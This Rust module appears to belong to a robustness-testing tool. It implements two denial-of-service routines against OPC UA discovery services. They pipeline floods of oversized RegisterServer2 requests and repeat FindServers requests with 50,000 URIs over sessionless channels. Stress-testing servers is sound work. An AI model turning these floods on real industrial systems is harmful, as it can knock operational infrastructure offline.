//! Discovery: services that need no Session.

use takt_ua::structures::*;
use takt_ua::{NodeId, UaString};

use crate::channel::{Channel, Lost, PATIENCE, Way};
use crate::request;
use crate::target::Attacker;

/// Requests that wait at any time.
const PIPELINED: usize = 8;

/// Registers servers under names of their own, each with 1000 URLs of 1000 characters, over a channel without Session.
pub(crate) fn register(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
    let mut channel = Channel::open(attacker, Way::Tcp)?;
    let url = format!("opc.tcp://127.0.0.1:4840/{}", "x".repeat(1000));
    let urls = vec![UaString::from(url.as_str()); attacker.count(1000)];
    let mut request = RegisterServer2Request {
        request_header: request::header(&NodeId::NULL),
        server: RegisteredServer {
            server_names: vec!["Attack".into()],
            discovery_urls: urls.clone(),
            is_online: true,
            ..RegisteredServer::default()
        },
        ..RegisterServer2Request::default()
    };
    let (mut number, mut waiting) = (0_u64, 0);
    while attacker.goes_on() {
        number += 1;
        // Those with many URLs may be refused: others take all places.
        let count = if number % 2 == 0 { urls.len() } else { 1 };
        let server = &mut request.server;
        server.server_uri = UaString::from(format!("urn:attack:{number}").as_str());
        server.discovery_urls = urls.iter().take(count).cloned().collect();
        channel.push(attacker, &request::message(&request))?;
        waiting += 1;
        if waiting >= PIPELINED {
            channel.receive(attacker, PATIENCE)?;
            waiting -= 1;
        }
    }
    Ok(())
}

/// Registers as many servers as it may, and searches them for 50 000 ServerUris again and again, over a channel without Session.
pub(crate) fn find(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
    let mut channel = Channel::open(attacker, Way::Tcp)?;
    for number in 0..attacker.count(1000) {
        let request = RegisterServerRequest {
            request_header: request::header(&NodeId::NULL),
            server: RegisteredServer {
                server_uri: UaString::from(format!("urn:attack:{number}").as_str()),
                server_names: vec!["Attack".into()],
                discovery_urls: vec!["opc.tcp://127.0.0.1:4840".into()],
                is_online: true,
                ..RegisteredServer::default()
            },
        };
        channel.push(attacker, &request::message(&request))?;
        channel.receive(attacker, PATIENCE)?;
    }
    let request = FindServersRequest {
        request_header: request::header(&NodeId::NULL),
        server_uris: vec!["urn:attack:x".into(); attacker.count(50_000)],
        ..FindServersRequest::default()
    };
    let message = request::message(&request);
    let mut waiting = 0;
    while attacker.goes_on() {
        channel.push(attacker, &message)?;
        waiting += 1;
        if waiting >= PIPELINED / 2 {
            channel.receive(attacker, PATIENCE)?;
            waiting -= 1;
        }
    }
    Ok(())
}
